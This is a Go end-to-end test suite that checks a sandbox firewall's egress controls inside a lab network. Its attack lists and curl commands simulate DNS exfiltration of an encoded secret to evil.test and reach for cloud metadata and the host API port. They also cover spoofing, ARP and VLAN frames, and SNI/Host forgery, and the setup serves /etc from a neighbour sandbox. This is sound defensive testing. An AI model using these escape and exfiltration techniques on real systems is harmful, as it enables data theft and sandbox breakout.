package e2e

import (
	"bytes"
	_ "embed"
	"fmt"
	"io/fs"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/skerry-dev/skerry"
	"github.com/skerry-dev/skerry/client"
)

//go:embed testdata/attack.py
var attackScript string

// world is a server in the lab, with a neighbour that everything is open to.
type world struct {
	*server
	lab       *lab
	neighbour *client.Sandbox
}

func newWorld(t *testing.T) *world {
	l := newLab(t)
	t.Setenv("SSL_CERT_FILE", l.roots)
	s := newServer(t, "--resolver", labGateway, "--allow-private", labNets, "--sandbox-ca", "none")
	w := &world{server: s, lab: l}
	w.neighbour = s.create(client.CreateOptions{Name: "neighbour"})
	s.detach(w.neighbour, "exec python3 -m http.server 8080 --directory /etc")
	return w
}

// attack runs one of the attacks in a sandbox, as root.
func (w *world) attack(sb *client.Sandbox, args ...string) string {
	w.t.Helper()
	cmd := sb.Command(w.t.Context(), "python3", append([]string{"-c", attackScript}, args...)...)
	cmd.Sudo = true
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.t.Fatalf("attack %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// address is a sandbox's own.
func (w *world) address(sb *client.Sandbox) string {
	w.t.Helper()
	return w.output(sb, "python3", "-c", "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('203.0.113.66', 9)); print(s.getsockname()[0])")
}

// fair is what may arrive in the lab: what the proxy asks and fetches.
var fair = []string{
	"17 198.51.100.1>198.51.100.2:53", "6 198.51.100.1>203.0.113.10:443", "6 198.51.100.1>203.0.113.10:80", "6 198.51.100.1>203.0.113.77:8080",
}

// quiet checks that nothing else has arrived.
func (w *world) quiet(what string) {
	w.t.Helper()
	packets, queries, _ := w.lab.seen()
	for _, p := range packets {
		if !slices.Contains(fair, p) {
			w.t.Errorf("%s: the world saw %s", what, p)
		}
	}
	for _, q := range queries {
		if !w.lab.knows(q) || q == "evil.test" {
			w.t.Errorf("%s: the world was asked for %s", what, q)
		}
	}
}

var customPolicy = &client.NetworkPolicy{
	Rules: map[string][]skerry.NetworkRule{
		"allowed.test": {}, "denied.test": {}, "metadata.test": {}, "host.test": {}, "loop.test": {},
		"*.rules.test": {{Transform: []skerry.HeaderTransform{{Headers: map[string]string{"authorization": "Bearer brokered"}}}}},
	},
	AllowCIDRs: []string{directIP + "/32"}, DenyCIDRs: []string{deniedIP + "/32"},
}

// TestFirewall attacks from inside sandboxes: nothing gets out that the policy
// does not allow.
func TestFirewall(t *testing.T) {
	if !inLab(t) {
		return
	}
	w := newWorld(t)
	custom := w.create(client.CreateOptions{Name: "custom", NetworkPolicy: customPolicy})
	closed := w.create(client.CreateOptions{Name: "closed", NetworkPolicy: &client.NetworkPolicy{Mode: "deny-all"}})
	neighbour := w.address(w.neighbour)
	u, err := url.Parse(w.URL())
	if err != nil {
		t.Fatal(err)
	}
	_, apiPort, err := net.SplitHostPort(u.Host)
	if err != nil {
		t.Fatal(err)
	}
	w.lab.seen()

	// What is allowed works, whatever address the client connects to.
	for what, c := range map[string]struct{ script, want string }{
		"HTTPS by name":         {"curl -sS --cacert /dev/stdin https://allowed.test/ <<'E'\n" + readFile(t, w.lab.roots) + "E", `reached allowed.test auth=""`},
		"HTTP by host":          {"curl -sS http://allowed.test/", `reached allowed.test auth=""`},
		"a rule's header":       {"curl -sS https://api.rules.test/", `reached api.rules.test auth="Bearer brokered"`},
		"a rule's, Node.js":     {"node -e 'fetch(\"https://api.rules.test/\").then(r=>r.text()).then(console.log)'", `reached api.rules.test auth="Bearer brokered"`},
		"a rule's, Python":      {"python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.rules.test/\").read().decode())'", `reached api.rules.test auth="Bearer brokered"`},
		"an allowed network":    {"curl -sS http://" + directIP + ":8080/", `reached 203.0.113.77:8080 auth=""`},
		"a forged address":      {"curl -sS --resolve allowed.test:80:" + evilIP + " http://allowed.test/", `reached allowed.test auth=""`},
		"git's and pip's trust": {"echo $GIT_SSL_CAINFO $PIP_CERT $NODE_EXTRA_CA_CERTS", "/etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt /usr/local/share/skerry/authorities.crt"},
	} {
		if code, out := w.shell(custom, c.script); code != 0 || strings.TrimSpace(out) != c.want {
			t.Errorf("%s: %d %s", what, code, out)
		}
	}
	w.quiet("what is allowed")

	attacks := [][]string{
		{"tcp", evilIP, "80"}, {"tcp", evilIP, "443"}, {"tcp", evilIP, "8080"}, {"tcp", evilIP, "22"}, {"tcp", evilIP, "53"},
		{"tls", evilIP, "evil.test"}, {"no-sni", evilIP}, {"no-sni", allowedIP}, {"tls", "denied.test", "denied.test"}, {"tls", allowedIP, "denied.test"},
		{"tls", allowedIP, "metadata.test"}, {"tls", allowedIP, "host.test"}, {"tls", allowedIP, "loop.test"}, {"http", allowedIP, "metadata.test"},
		{"http", evilIP, "evil.test"}, {"http", allowedIP, "evil.test"}, {"http", evilIP, evilIP}, {"tcp", deniedIP, "80"}, {"tcp", allowedIP, "8080"}, {"tcp", allowedIP, "22"},
		{"udp", evilIP, "443"}, {"udp", allowedIP, "443"}, {"udp", evilIP, "123"}, {"udp", deniedIP, "53"},
		{"query", labGateway, "evil.test", "1"}, {"query", "8.8.8.8", "c2VjcmV0.evil.test"}, {"query", evilIP, "c2VjcmV0.evil.test", "1"}, {"query", labGateway, "c2VjcmV0.evil.test", "5"},
		{"icmp", evilIP}, {"icmp", allowedIP}, {"icmp", "198.51.100.1"}, {"icmp", neighbour},
		{"tcp6", "2001:db8::2", "443"}, {"udp6", "2001:db8::2", "53"}, {"tcp6", "2001:db8::1", apiPort}, {"tcp6", "::ffff:" + evilIP, "8080"},
		{"tcp", "169.254.169.254", "80"}, {"http", "169.254.169.254", "allowed.test"}, {"udp", "169.254.169.254", "53"},
		{"tcp", "198.51.100.1", apiPort}, {"tcp", "127.0.0.1", apiPort}, {"tcp", "198.51.100.1", "22"}, {"tcp", neighbour, "8080"}, {"udp", neighbour, "8080"},
	}
	for _, sb := range []*client.Sandbox{custom, closed} {
		for _, a := range attacks {
			if a[1] == "169.254.169.254" && a[0] == "http" {
				continue // the proxy would take the name, but the address is dropped: below
			}
			if out := w.attack(sb, a...); !strings.HasPrefix(out, "blocked ") {
				t.Errorf("%s: %v: %s", sb.Name(), a, out)
			}
			w.quiet(fmt.Sprint(sb.Name(), a))
		}
		// These cannot know whether they got out; the world does.
		for _, a := range [][]string{
			{"spoof", neighbour}, {"spoof", "198.51.100.1"}, {"spoof", labGateway}, {"spoof", "127.0.0.1"}, {"spoof-allowed", neighbour}, {"fragments"}, {"tiny-fragments"}, {"protocols"},
			{"frame"}, {"frame6"}, {"vlan"}, {"arp", neighbour, "198.51.100.1", labGateway}, {"http", "169.254.169.254", "allowed.test"},
		} {
			t.Logf("%s: %v: %s", sb.Name(), a, w.attack(sb, a...))
			w.quiet(fmt.Sprint(sb.Name(), a))
		}
	}
	for _, a := range [][]string{{"tls", evilIP, "allowed.test"}, {"http", evilIP, "allowed.test"}} {
		// A forged name leads where the name leads.
		if out := w.attack(custom, a...); !strings.HasPrefix(out, "OPEN b'HTTP/1.1 200") {
			t.Errorf("%v: %s", a, out)
		}
		if out := w.attack(closed, a...); !strings.HasPrefix(out, "blocked ") {
			t.Errorf("deny-all: %v: %s", a, out)
		}
		w.quiet(fmt.Sprint(a))
	}
	// Host ≠ SNI where TLS is ended: not to another site, and without the secret.
	if out := w.attack(custom, "tls", allowedIP, "api.rules.test", "evil.test"); strings.Contains(out, "reached") {
		t.Errorf("another Host than the server name: %s", out)
	}
	w.logged(custom)
	t.Logf("slow clients: %s", w.attack(custom, "many", "1000"))
	// The neighbour, the proxy and the server are as before.
	if code, out := w.shell(custom, "curl -sS -m 10 http://allowed.test/"); code != 0 || !strings.Contains(out, "reached allowed.test") {
		t.Errorf("after all: %d %s", code, out)
	}
	if code, out := w.shell(w.neighbour, "curl -sS -m 10 http://evil.test:8080/"); code != 0 || !strings.Contains(out, "reached evil.test") {
		t.Errorf("the neighbour: %d %s", code, out)
	}
	for _, sb := range []*client.Sandbox{custom, closed, w.neighbour} {
		w.assertAlive(sb)
	}
	w.told(custom)
}

// told checks what is told of a sandbox's traffic, and what is not.
func (w *world) told(sb *client.Sandbox) {
	w.t.Helper()
	stopped, err := sb.Stop(w.t.Context())
	if err != nil {
		w.t.Fatal(err)
	}
	if n := stopped.Session.Network; n == nil || n.Egress < 10_000 || n.Ingress < 10_000 {
		w.t.Errorf("its traffic is counted as %+v", n)
	}
	// What a command prints is kept, and the lab's servers tell what they get.
	err = filepath.WalkDir(w.path("state"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || filepath.Base(filepath.Dir(path)) == "output" {
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte("Bearer brokered")) {
			w.t.Errorf("%s tells the secret", path)
		}
		return err
	})
	if err != nil {
		w.t.Error(err)
	}
}

// logged checks what is told of the proxy's decisions.
func (w *world) logged(sb *client.Sandbox) {
	w.t.Helper()
	events, err := sb.NetworkEvents(w.t.Context(), sb.Session().ID, 1000)
	if err != nil {
		w.t.Fatal(err)
	}
	var allowed, denied, unnamed bool
	for _, e := range events {
		allowed = allowed || e.Domain == "allowed.test" && e.Allowed && e.End && e.BytesIn > 0
		denied = denied || e.Domain == "evil.test" && !e.Allowed
		unnamed = unnamed || e.Destination == evilIP+":443" && !e.Allowed
	}
	if !allowed || !denied || !unnamed {
		w.t.Errorf("%d events: allowed %t, denied %t, without a name %t", len(events), allowed, denied, unnamed)
	}
}

func readFile(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestFirewallChanges changes policies while data is on its way, and follows a
// policy through the lives of a sandbox.
func TestFirewallChanges(t *testing.T) {
	if !inLab(t) {
		return
	}
	w := newWorld(t)
	sb := w.create(client.CreateOptions{Name: "changing"})
	set := func(p *client.NetworkPolicy) time.Duration {
		t.Helper()
		start := time.Now()
		if err := sb.Update(t.Context(), client.UpdateOptions{NetworkPolicy: p}); err != nil {
			t.Fatal(err)
		}
		return time.Since(start)
	}
	direct, proxied := "http://"+directIP+":8080/stream", "http://allowed.test/stream"
	open, deny := &client.NetworkPolicy{Mode: "allow-all"}, &client.NetworkPolicy{Mode: "deny-all"}
	byName, elsewhere := &client.NetworkPolicy{AllowDomains: []string{"allowed.test"}}, &client.NetworkPolicy{AllowDomains: []string{"other.test"}, AllowCIDRs: []string{evilIP + "/32"}}
	byAddress := &client.NetworkPolicy{AllowCIDRs: []string{directIP + "/32"}}
	for _, c := range []struct {
		name          string
		before, after *client.NetworkPolicy
		url           string
		kept          bool
	}{
		{"allow-all to deny-all", open, deny, direct, false},
		{"allow-all to its network", open, byAddress, direct, true},
		{"allow-all to elsewhere", open, elsewhere, direct, false},
		{"its network to allow-all", byAddress, open, direct, true},
		{"a name to another", byName, elsewhere, proxied, false},
		{"a name to deny-all", byName, deny, proxied, false},
		{"a name to the same and more", byName, customPolicy, proxied, true},
		{"a name to allow-all", byName, open, proxied, true},
	} {
		set(c.before)
		download := w.detach(sb, "curl -sS -o /tmp/stream "+c.url+"; echo ended $?")
		ended := make(chan error, 1)
		go func() { ended <- download.Wait() }()
		size := func() string { return w.output(sb, "sh", "-c", "stat -c %s /tmp/stream 2>/dev/null || echo 0") }
		w.waitFor("the download to begin", func() bool { s := size(); return s != "0" })
		start := time.Now()
		took := set(c.after)
		if !c.kept {
			select {
			case <-ended:
				t.Logf("%s: the change took %s, the download had ended %s after it was asked for", c.name, took, time.Since(start))
			case <-time.After(time.Minute):
				t.Errorf("%s: it was not cut", c.name)
			}
		} else {
			t.Logf("%s: the change took %s", c.name, took)
			for range 3 { // what was on its way already is not what counts
				before := size()
				w.waitFor("the download to go on", func() bool { return size() != before })
			}
			select {
			case <-ended:
				t.Errorf("%s: it was cut", c.name)
				continue
			default:
			}
			if err := download.Kill(t.Context(), 9); err != nil {
				t.Error(err)
			}
			<-ended
		}
		w.output(sb, "rm", "-f", "/tmp/stream")
	}

	// deny-all survives a crash of the server, a stop, a fork.
	set(deny)
	w.lab.seen()
	refused := func(what string, sb *client.Sandbox) {
		t.Helper()
		if code, out := w.shell(sb, "curl -sS -m 3 http://"+evilIP+":8080/"); code == 0 {
			t.Errorf("%s: %s", what, out)
		}
		w.quiet(what)
	}
	refused("set", sb)
	w.kill()
	refusedMeanwhile, _, _ := w.lab.seen()
	if len(refusedMeanwhile) > 0 {
		t.Errorf("while no server runs: %v", refusedMeanwhile)
	}
	w.start()
	sb = w.get("changing")
	refused("after a crash", sb)
	if _, err := sb.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	refused("resumed", sb)
	fork, err := sb.Fork(t.Context(), client.ForkOptions{Name: "fork"})
	if err != nil {
		t.Fatal(err)
	}
	refused("forked", fork)
}
